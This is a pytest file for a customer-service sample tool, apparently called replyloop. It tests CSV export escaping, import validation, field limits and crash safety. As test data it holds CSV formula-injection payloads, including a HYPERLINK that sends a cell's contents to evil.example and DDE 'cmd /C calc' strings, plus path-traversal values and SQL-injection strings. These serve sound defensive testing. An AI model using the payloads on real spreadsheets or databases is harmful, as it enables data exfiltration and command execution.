"""Issue 15 part 4 and 3: CSV formula injection on export, hostile and malformed import rows,
the intake field limits shared by import and HTTP /intake."""

import csv
import json
from pathlib import Path

import pytest

from helpers import cli, cli_subprocess
from replyloop.dataio import question_from_mapping, read_questions, read_samples
from replyloop.errors import FieldError

HOSTILE = [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里查看物流\")", "已为您查询"),
    ("-2+3+cmd|' /C calc'!A0", "请联系客服"),
    ("+86 138 0000 0000 是我的电话吗", "是的"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "好的"),
    ("\t=1+1 退货", "可以退"),
    ("怎么登录", "- 先打开 App\n- 点「我的」登录"),  # a legit reply that starts with "-"
]


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def hostile_store(workspace, tmp_path):
    _, store = workspace
    src = write(tmp_path / "in.jsonl", "".join(json.dumps({"prompt": p, "response": r}, ensure_ascii=False) + "\n"
                                            for p, r in HOSTILE))
    assert cli("data", "import", src).exit_code == 0
    return store


def test_export_neutralises_formula_cells(hostile_store, tmp_path):
    out = tmp_path / "train_data"
    result = cli("data", "export", out, "--no-scrub-pii")
    assert result.exit_code == 0, result.output
    with (out / "metadata.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    cells = [c for row in rows for c in row[:2]]
    # no cell a spreadsheet would run: each starts with a quote or a harmless character
    assert all(c[:1] not in "=+-@\t\r" for c in cells), cells
    prompts = [r[0] for r in rows]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里查看物流\")" in prompts
    assert "'-2+3+cmd\\|' /C calc'!A0" in prompts  # defusedcsv also escapes the DDE pipe
    assert "'=1+1 退货" in prompts  # stored trimmed: the tab in front was not kept
    # the legit reply that starts with "-" is still readable: one quote in front, nothing else changed
    assert [r[1] for r in rows if r[0] == "怎么登录"] == ["'- 先打开 App\n- 点「我的」登录"]


def test_raw_csv_writes_cells_as_stored(hostile_store, tmp_path):
    out = tmp_path / "raw"
    assert cli("data", "export", out, "--raw-csv", "--no-scrub-pii").exit_code == 0
    with (out / "metadata.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    stored = {(s["prompt"], s["response"]) for s in hostile_store.samples()}
    assert {(r[0], r[1]) for r in rows} == stored
    assert ("-2+3+cmd|' /C calc'!A0", "请联系客服") in stored


def test_round_trip_import_removes_the_quote_the_export_added(hostile_store, tmp_path):
    out = tmp_path / "train_data"
    assert cli("data", "export", out, "--no-scrub-pii").exit_code == 0
    got = {(s.prompt, s.response) for s in read_samples(out / "metadata.csv")}
    assert got == {(s["prompt"], s["response"]) for s in hostile_store.samples()}
    # imported into the same store: every row is a duplicate, none comes back with a quote
    result = cli("data", "import", out / "metadata.csv")
    assert result.stdout.endswith(f"Imported 0 sample(s) from {out / 'metadata.csv'}, skipped {len(HOSTILE)} duplicate(s)\n")


def test_weekly_numbers_csv_neutralises_a_customer_category():
    import io

    from replyloop import csvsafe

    buffer = io.StringIO()
    writer = csvsafe.writer(buffer, lineterminator="\n")
    writer.writerow(["reviews", "2026-W48", "=cmd|' /C calc'!A0", "approve", -3])
    writer.writerow(["consistency", "2026-W48", "物流查询", "mean", -0.25])
    writer.writerow(["\t=1+1", "-0.5", "- 先登录"])
    assert buffer.getvalue() == ("reviews,2026-W48,'=cmd\\|' /C calc'!A0,approve,-3\n"
                                 "consistency,2026-W48,物流查询,mean,-0.25\n"
                                 "'\t=1+1,-0.5,'- 先登录\n")
    row = next(csv.reader(io.StringIO(buffer.getvalue().splitlines(keepends=True)[2])))
    assert [csvsafe.unescape(c) for c in row] == ["\t=1+1", "-0.5", "- 先登录"]
    crlf = io.StringIO()
    csvsafe.writer(crlf).writerow(["\r=1+1"])
    assert crlf.getvalue() == "\"'\r=1+1\"\r\n"
    assert csvsafe.unescape(next(csv.reader(io.StringIO(crlf.getvalue(), newline="")))[0]) == "\r=1+1"


# categories as a customer sends them: the intake's label rules let "-2+3+cmd" and "+86 热线"
# through; a store written before those rules (or by hand) may hold anything
REPORT_CATEGORIES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里查看物流\")", "-2+3+cmd|' /C calc'!A0",
                     "-2+3+cmd", "+86 热线", "物流查询"]


@pytest.fixture
def hostile_report_store(workspace):
    from test_report import W47, W48, _review

    _, store = workspace
    _review(store, W47[0], "物流查询", "approve", conv="prev")  # the week before: all approved unchanged
    for i, category in enumerate(REPORT_CATEGORIES):
        _review(store, W48[1], category, "approve", draft=f"回复{i}。", conv=f"c{i}")
        _review(store, W48[2], category, "edit", draft=f"请提供快递条码{i}。", final=f"请提供电子面单{i}。", conv=f"e{i}")
    return store


def _report_rows(out: Path) -> list[list[str]]:
    with (out / "numbers.csv").open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.slow
def test_weekly_report_neutralises_customer_categories_in_numbers_csv(hostile_report_store, tmp_path):
    from replyloop import csvsafe
    from replyloop.fields import clean
    from test_report import WEEK

    assert clean("category", "-2+3+cmd") == "-2+3+cmd" and clean("category", "+86 热线") == "+86 热线"
    out = tmp_path / "report"
    result = cli_subprocess("report", "weekly", "--week", WEEK, "--out", out)
    assert result.returncode == 0, result.stderr
    header, *rows = _report_rows(out)
    assert header == ["section", "week", "category", "metric", "value"]
    categories = {r[2] for r in rows if r[0] == "reviews" and r[1] == WEEK and r[2]}
    assert categories == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里查看物流\")", "'-2+3+cmd\\|' /C calc'!A0",
                          "'-2+3+cmd", "'+86 热线", "物流查询"}
    assert {r[2] for r in rows if r[0] == "edits" and r[2]} == categories
    # no cell a spreadsheet would run: a quote or a harmless character first, or a plain number
    for row in rows:
        for cell in row[:4]:
            assert not cell or cell[0] not in "=+-@|%\t\r", row
    # a negative number stays a number: 5 of 10 approved unchanged after 1 of 1 the week before
    assert ["automation", WEEK, "", "change_vs_previous_week", "-0.5"] in rows
    assert {csvsafe.unescape(c) for c in categories} == set(REPORT_CATEGORIES)


def test_weekly_report_raw_csv_writes_categories_as_stored(hostile_report_store, tmp_path):
    from test_report import WEEK

    out = tmp_path / "raw"
    result = cli("report", "weekly", "--week", WEEK, "--out", out, "--raw-csv")
    assert result.exit_code == 0, result.output
    rows = _report_rows(out)[1:]
    assert {r[2] for r in rows if r[0] == "reviews" and r[1] == WEEK and r[2]} == set(REPORT_CATEGORIES)
    # the default stays safe: the same report without the flag quotes them again
    assert cli("report", "weekly", "--week", WEEK, "--out", out).exit_code == 0
    assert "'-2+3+cmd" in {r[2] for r in _report_rows(out)}


# -- import validation ---------------------------------------------------------------------


@pytest.mark.parametrize("name,content,message", [
    ("nul.csv", "prompt,response\nq1,a1\n\x00\x00,a2\n", r"nul.csv:3: prompt contains a NUL character \(U\+0000\) at character 1"),
    ("zw.csv", "prompt,response\nq1,\u200b\u200d\ufeff \n", r"zw.csv:2: empty response \(only invisible characters\)"),
    ("cat.jsonl", '{"prompt": "q", "response": "a", "category": ["物流查询", "支付失败"]}\n',
     r"cat.jsonl:1: category must be a string, not a list"),
    ("obj.jsonl", '{"prompt": "q", "response": "a"}\n{"prompt": "q", "response": "a", "category": {"x": 1}}\n',
     r"obj.jsonl:2: category must be a string, not an object"),
    ("sur.jsonl", '{"prompt": "q\\ud800", "response": "a"}\n',
     r"sur.jsonl:1: prompt contains a lone surrogate \(U\+D800: not valid Unicode\) at character 2"),
    ("deep.jsonl", '{"prompt": "q", "response": "a"}\n' + "[" * 100000 + "]" * 100000 + "\n",
     r"deep.jsonl:2: bad JSON \(nested too deeply\)"),
    ("path.csv", "prompt,response,category\nq,a,../../../etc/passwd\n", r"path.csv:2: category may hold only letters"),
    ("long.csv", "prompt,response\n" + "问" * 4001 + ",a\n", r"long.csv:2: prompt is longer than 4000 characters \(4001\)"),
    ("chat.jsonl", '{"messages": [{"role": "user", "content": "\\u200b"}, {"role": "assistant", "content": "a"}]}\n',
     r"chat.jsonl:1: empty user message \(only invisible characters\)"),
])
def test_hostile_rows_are_rejected_with_file_and_line(tmp_path, name, content, message):
    with pytest.raises(FieldError if "JSON" not in message else Exception, match=message):
        read_samples(write(tmp_path / name, content))


@pytest.mark.parametrize("content,message", [
    ('{"prompt": "q\\ud800", "response": "a"}\n', "bad.jsonl:1: prompt contains a lone surrogate"),
    ("[" * 100000 + "]" * 100000 + "\n", "bad.jsonl:1: bad JSON (nested too deeply)"),
    ('{"prompt": "q", "response": "a", "category": ["a"]}\n', "bad.jsonl:1: category must be a string, not a list"),
])
def test_cli_import_of_hostile_jsonl_is_an_error_exit_2_and_stores_nothing(workspace, tmp_path, content, message):
    _, store = workspace
    bad = write(tmp_path / "bad.jsonl", '{"prompt": "fine", "response": "ok"}\n' + content)
    result = cli_subprocess("data", "import", bad)
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith("Error: ") and message.replace("bad.jsonl:1", "bad.jsonl:2") in result.stderr
    assert "Traceback" not in result.stderr
    assert store.sample_count() == 0


# -- intake field limits (shared by HTTP /intake and data import --as-questions) ----------------


@pytest.mark.parametrize("data,field,message", [
    ({"conversation_id": "c" * 200_000, "question": "q"}, "conversation_id", "conversation_id is longer than 200 characters (200000)"),
    ({"conversation_id": 10 ** 5000, "question": "q"}, "conversation_id", "conversation_id is a number of more than 200 digits"),
    ({"conversation_id": "c\x00", "question": "q"}, "conversation_id", "conversation_id contains a NUL character (U+0000) at character 2"),
    ({"conversation_id": "c", "question": "q\x00"}, "question", "question contains a NUL character (U+0000) at character 2"),
    ({"conversation_id": "c", "question": "q", "category": "../../../etc/passwd\u0000"}, "category",
     "category contains a NUL character (U+0000) at character 20"),
    ({"conversation_id": "c", "question": "q", "category": "../../../etc/passwd"}, "category",
     "category may hold only letters, digits, spaces and - _ . & + ( ) · 、 （ ） (found '/')"),
    ({"conversation_id": "c", "question": "\ud800"}, "question", "question contains a lone surrogate (U+D800: not valid Unicode) at character 1"),
    ({"conversation_id": "c", "question": "\u200b\u200b"}, "question", "empty question (only invisible characters)"),
    ({"conversation_id": "c", "question": "q", "draft": ["a"]}, "draft", "draft must be a string, not a list"),
    ({"conversation_id": True, "question": "q"}, "conversation_id", "conversation_id must be a string, not true/false"),
    ({"conversation_id": "c", "question": "q" * 4001}, "question", "question is longer than 4000 characters (4001)"),
    ({"conversation_id": "c", "question": "q", "categroy": "x"}, "categroy",
     "unknown field(s): categroy (allowed: category, conversation_id, draft, question)"),
])
def test_intake_fields_are_limited_and_the_error_names_the_field(data, field, message):
    with pytest.raises(FieldError) as info:
        question_from_mapping(data, strict=True)
    assert info.value.field == field
    assert str(info.value) == message


def test_good_intake_values_pass_unchanged():
    q = question_from_mapping({"conversation_id": 12345, "question": " 我的快递到哪了？👨‍👩‍👧 ", "category": "物流查询",
                               "draft": "您好\n请提供订单号"}, strict=True)
    assert (q.conversation_id, q.question, q.category, q.draft) == ("12345", "我的快递到哪了？👨‍👩‍👧", "物流查询", "您好\n请提供订单号")
    assert question_from_mapping({"conversation_id": "slack:C1:1.2", "question": "q", "category": "After-sales (售后)"}).category == "After-sales (售后)"


def test_questions_import_uses_the_same_limits(workspace, tmp_path):
    _, store = workspace
    bad = write(tmp_path / "q.csv", "conversation_id,question,category\nc1,我想退货,退换货政策\nc2,快递呢,../../../etc/passwd\n")
    result = cli("data", "import", bad, "--as-questions")
    assert result.exit_code == 2
    assert result.stderr.startswith(f"Error: {bad}:3: category may hold only letters")
    assert store.scalar("SELECT count(*) FROM questions") == 0
    with pytest.raises(FieldError, match=r"q2.jsonl:1: conversation_id is longer than 200 characters"):
        read_questions(write(tmp_path / "q2.jsonl", json.dumps({"conversation_id": "c" * 300, "question": "q"}) + "\n"))


# -- the same prompt with contradictory answers --------------------------------------------------


def test_contradictory_answers_are_warned_about_and_counted(workspace, tmp_path):
    _, store = workspace
    first = write(tmp_path / "a.csv", "prompt,response,category\n"
                  "买了七天还能退吗,七天内可退,退换货政策\n"
                  "怎么改地址,在订单页修改,物流查询\n"
                  "买了 七天还能退吗,不可以退,退换货政策\n"       # the same prompt after normalisation
                  "买了七天还能退吗,七天内可退,退换货政策\n")      # a plain duplicate: no warning
    result = cli_subprocess("data", "import", first)
    assert result.returncode == 0, result.stderr
    assert result.stderr == f"Warning: {first}:4: the prompt '买了 七天还能退吗' has a different answer on line 2\n"
    assert result.stdout == (f"Imported 3 sample(s) from {first}, skipped 1 duplicate(s); 1 row(s) whose prompt "
                             "has a different answer (see `replyloop data stats`)\n")
    later = write(tmp_path / "b.jsonl", json.dumps({"prompt": "怎么改地址", "response": "不能改"}, ensure_ascii=False) + "\n")
    result = cli_subprocess("data", "import", later)
    [sample_id] = [s["id"] for s in store.samples() if s["response"] == "在订单页修改"]
    assert result.stderr == f"Warning: {later}:1: the prompt '怎么改地址' has a different answer on stored sample #{sample_id}\n"
    stats = json.loads(cli_subprocess("data", "stats", "--json").stdout)
    assert stats["conflicting_prompts"] == 2 and stats["samples"] == 4
    assert "Prompts with conflicting answers: 2" in cli_subprocess("data", "stats").stdout


def test_an_old_database_gets_prompt_keys(tmp_path):
    import sqlite_utils

    from replyloop import migrations
    from replyloop.store import Store

    path = tmp_path / "old.db"
    old = sqlite_utils.Database(path)
    migrations.migrate(old, upto="m030_process_identity")
    for prompt, response, key in (("怎么退货？", "七天内可退", "k1"), ("怎么 退货?", "不可以退", "k2")):
        old.execute("INSERT INTO samples (prompt, response, source, approved_at, dedupe_key) VALUES (?, ?, 'import', '2026-01-01', ?)",
                    (prompt, response, key))
    old.conn.commit()
    old.close()
    store = Store(path)
    from replyloop.textnorm import prompt_key
    assert {r["prompt_key"] for r in store.samples()} == {prompt_key("怎么退货?")}
    assert store.stats()["conflicting_prompts"] == 1


def test_add_samples_inside_a_transaction_joins_it(workspace):
    from replyloop.store import SampleIn

    _, store = workspace
    with pytest.raises(RuntimeError):
        with store.transaction():
            assert store.add_samples([SampleIn("q1", "a1"), SampleIn("q1", "a1")]).added == 1
            raise RuntimeError("the caller fails after the import")
    assert store.sample_count() == 0  # rolled back with the caller's transaction
    with store.transaction():
        store.add_samples([SampleIn("q1", "a1")])
    assert store.sample_count() == 1


def test_kill_9_during_a_large_import_stores_all_or_nothing(workspace, tmp_path):
    """A real `data import` subprocess killed at several moments: the store holds every row or none."""
    import os
    import signal
    import subprocess
    import sys
    import time

    _, store = workspace
    rows = 20000
    big = tmp_path / "big.csv"
    with big.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["prompt", "response", "category"])
        for i in range(rows):
            w.writerow([f"问题{i}：快递到哪了？", f"您好，请提供订单号（编号{i}）", "物流查询"])
    killed = []
    for delay in (0.3, 1.5, 3.0, 6.0):
        before = store.sample_count()
        proc = subprocess.Popen([sys.executable, "-m", "replyloop", "data", "import", str(big)],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=os.environ.copy())
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        killed.append(proc.pid)
        after = store.sample_count()
        assert after - before in (0, rows) and (after in (0, rows)), (delay, before, after)
        assert store.scalar("PRAGMA integrity_check") == "ok"
    assert cli("data", "import", big).exit_code == 0
    assert store.sample_count() == rows
    import tempfile  # the killed imports' staging directories are removed by the next import
    assert not [p for pid in killed for p in Path(tempfile.gettempdir()).glob(f"replyloop-import-{pid}-*")]


def test_parallel_validation_gives_the_same_rows_and_the_first_error(tmp_path, workspace):
    from replyloop.dataio import import_file, iter_staged
    from replyloop.store import Store

    _, store = workspace
    good = tmp_path / "big.csv"
    lines = ["prompt,response,category"] + [f"问题{i}，快递呢？,回答{i},物流查询" for i in range(25000)]
    lines[7] = '"多行\n问题 →", 回答  ,'  # a quoted line break (its record spans lines 8-9), no category
    lines[20001] = "'=1+1,回答,售后服务"  # a quoted formula cell: the exact path for its chunk
    good.write_text("\n".join(lines) + "\n", encoding="utf-8")
    stored = []
    for workers in (2, 0):
        one = Store(tmp_path / f"w{workers}.db")
        import_file(one, good, workers=workers)
        stored.append(one.query("SELECT id, prompt, response, category, dedupe_key, prompt_key FROM samples"))
        one.close()
    exact = Store(tmp_path / "exact.db")
    exact.import_rows(iter_staged(good))
    assert stored[0] == stored[1] == exact.query("SELECT id, prompt, response, category, dedupe_key, prompt_key"
                                                 " FROM samples")
    row = stored[0][6]
    assert (row["prompt"], row["response"], row["category"]) == ("多行\n问题 →", "回答", None)
    assert stored[0][20000]["prompt"] == "=1+1"
    bad = tmp_path / "bad.csv"
    lines[24000] = "\x00,回答,物流查询"  # line 24002, in a later chunk than the next one
    lines[12000] = "问题,回答,../etc"    # line 12002: reported first, in file order
    bad.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(FieldError, match=r"bad.csv:12002: category may hold only letters"):
        import_file(exact, bad, workers=2)
    result = cli_subprocess("data", "import", bad, "--workers", "2")
    assert result.returncode == 2 and f"Error: {bad}:12002: category may hold only letters" in result.stderr
    assert store.sample_count() == 0
    result = cli_subprocess("data", "import", good, "--workers", "2")
    assert result.returncode == 0 and "Imported 25000 sample(s)" in result.stdout


def test_snapshot_hash_is_unchanged_by_the_streamed_planning(workspace, samples_csv):
    """The content hash is still sha256 of the sorted (dedupe_key, category) lines, share and seed."""
    from replyloop.textnorm import sha256

    _, store = workspace
    store.add_samples(read_samples(samples_csv))
    snap = store.create_snapshot(0.15, "replyloop")
    rows = store.query("SELECT dedupe_key, category FROM samples")
    content = "\n".join(sorted(f"{r['dedupe_key']}\x1f{r['category'] or ''}" for r in rows))
    assert snap.hash == sha256(f"{content}\n{0.15:.6f}\nreplyloop")[:16]
    assert (snap.train, snap.heldout) == (store.scalar("SELECT count(*) FROM snapshot_samples WHERE split = 'train'"),
                                          store.scalar("SELECT count(*) FROM snapshot_samples WHERE split = 'heldout'"))
    again = store.create_snapshot(0.15, "replyloop")
    assert (again.hash, again.created, again.train, again.heldout) == (snap.hash, False, snap.train, snap.heldout)


BOT_WRITER = """
import json, sys, time
from pathlib import Path
from replyloop.store import Store
store, stop, out = Store(sys.argv[1]), Path(sys.argv[2]), []
failures = 0
while not stop.exists():
    start = time.time()
    try:
        store.add_question("导入时的问题", f"during-{len(out)}", source="http")
    except Exception:
        failures += 1
    out.append((start, time.time()))
    time.sleep(0.02)
print(json.dumps({"failures": failures, "writes": out}))
"""


def test_a_concurrent_bot_write_never_waits_for_the_whole_import(tmp_path, workspace):
    """A real second process writing like ``/intake`` every 20 ms beside ``data import`` of a
    file validated by two workers: none of its writes fails, it keeps committing while the file
    is staged (the import holds the write lock only for its final insert), and the import still
    lands whole."""
    import subprocess
    import sys
    import time

    _, store = workspace
    big = tmp_path / "big.csv"
    big.write_text("prompt,response,category\n" + "".join(f"导入问题{i}，快递呢？,回答{i},物流查询\n" for i in range(20000)),
                   encoding="utf-8")
    stop = tmp_path / "stop"
    bot = subprocess.Popen([sys.executable, "-c", BOT_WRITER, str(store.path), str(stop)], stdout=subprocess.PIPE,
                           text=True)
    try:
        time.sleep(1.0)
        started = time.time()
        result = cli_subprocess("data", "import", big, "--workers", "2")
        ended = time.time()
    finally:
        stop.touch()
        report = json.loads(bot.communicate(timeout=60)[0])
    assert result.returncode == 0 and "Imported 20000 sample(s)" in result.stdout, result.stderr
    assert report["failures"] == 0
    during = [end for begin, end in report["writes"] if started < begin and end < ended]
    assert len(during) >= 3, (ended - started, report["writes"][-5:])  # committed while the import ran
    assert store.sample_count() == 20000
    assert store.scalar("SELECT count(*) FROM questions WHERE source = 'http'") == len(report["writes"])
    assert store.scalar("PRAGMA integrity_check") == "ok"


def test_conflicts_with_a_smaller_store_are_found_from_its_keys(workspace, tmp_path):
    """A file larger than the store is compared with the store's keys in memory (the other path
    looks each staged prompt up in the index): the same warnings."""
    from replyloop.dataio import import_file

    _, store = workspace
    store.add_samples(read_samples(write(tmp_path / "a.csv", "prompt,response\n怎么改地址,在订单页修改\n能开发票吗,可以\n")))
    [stored] = [s["id"] for s in store.samples() if s["prompt"] == "怎么改地址"]
    big = write(tmp_path / "b.csv", "prompt,response\n" + "".join(f"别的问题{i},回答\n" for i in range(5))
                + "怎么 改地址,不能改\n能开发票吗,可以\n怎么改地址,在订单页修改\n")
    result = import_file(store, big)
    assert (result.added, result.duplicates, result.conflicts) == (6, 2, 2)
    assert [(c.line, c.other_line, c.sample_id) for c in result.conflict_examples] == [(7, None, stored), (9, 7, None)]


def test_kill_9_of_an_import_with_workers_leaves_no_worker_behind(workspace, tmp_path):
    """Forked validation workers hold their task pipe open themselves: without a watch on the
    parent they would wait on it for ever after a ``kill -9`` of the import."""
    import os
    import signal
    import subprocess
    import sys
    import time

    _, store = workspace
    big = tmp_path / "big.csv"
    big.write_text("prompt,response\n" + "".join(f"问题{i}：快递到哪了？,您好，请提供订单号（编号{i}）\n" for i in range(60000)),
                   encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "replyloop", "data", "import", str(big), "--workers", "2"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    children_file = Path(f"/proc/{proc.pid}/task/{proc.pid}/children")
    deadline, workers = time.monotonic() + 60, []
    while time.monotonic() < deadline and len(workers) < 2 and proc.poll() is None:
        workers = children_file.read_text().split() if children_file.exists() else []
        time.sleep(0.05)
    assert len(workers) == 2, "the import never started its workers"
    proc.send_signal(signal.SIGKILL)
    proc.wait()

    def alive(pid: str) -> bool:
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
        except FileNotFoundError:
            return False
        return stat.rsplit(")", 1)[1].split()[0] != "Z"

    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and any(alive(pid) for pid in workers):
        time.sleep(0.1)
    left = [pid for pid in workers if alive(pid)]
    for pid in left:  # tidy up before failing
        os.kill(int(pid), signal.SIGKILL)
    assert not left
    assert store.sample_count() == 0 and store.scalar("PRAGMA integrity_check") == "ok"


# -- no SQL built from input -----------------------------------------------------------------------

SQL_PAYLOADS = ["'); DROP TABLE samples; --", "x' OR '1'='1", "\"; DELETE FROM reviews; --", "1; PRAGMA writable_schema=1"]


def test_sql_in_values_and_names_is_stored_or_refused_as_text(workspace, tmp_path):
    """Values reach SQLite as parameters: SQL in prompts, answers and questions is stored as
    written, a model name that holds SQL is refused by the name rules, and no table is touched."""
    _, store = workspace
    rows = [{"prompt": f"问题{k} {p}", "response": f"回答 {p}", "category": "物流查询"} for k, p in enumerate(SQL_PAYLOADS)]
    src = write(tmp_path / "sql.jsonl", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
    assert cli("data", "import", src).exit_code == 0
    questions = write(tmp_path / "q.csv", "conversation_id,question\n" + "".join(
        f"c{k},\"问{k} {p.replace(chr(34), chr(34) * 2)}\"\n" for k, p in enumerate(SQL_PAYLOADS)))
    assert cli("data", "import", questions, "--as-questions").exit_code == 0
    tables = {r["name"] for r in store.query("SELECT name FROM sqlite_master WHERE type = 'table'")}
    stored = {(s["prompt"], s["response"]) for s in store.samples()}
    assert stored == {(r["prompt"], r["response"]) for r in rows}
    assert {r["text"] for r in store.query("SELECT text FROM questions")} == {f"问{k} {p}" for k, p in enumerate(SQL_PAYLOADS)}
    for payload in SQL_PAYLOADS:  # a model named like SQL is refused by the name rules, not run
        result = cli("models", "register", str(tmp_path), "--name", payload)
        assert result.exit_code == 2 and result.stderr.startswith("Error:") and "name" in result.stderr, result.output
    assert {r["name"] for r in store.query("SELECT name FROM sqlite_master WHERE type = 'table'")} == tables
    assert store.scalar("SELECT count(*) FROM samples") == len(rows)
    assert store.scalar("PRAGMA integrity_check") == "ok"
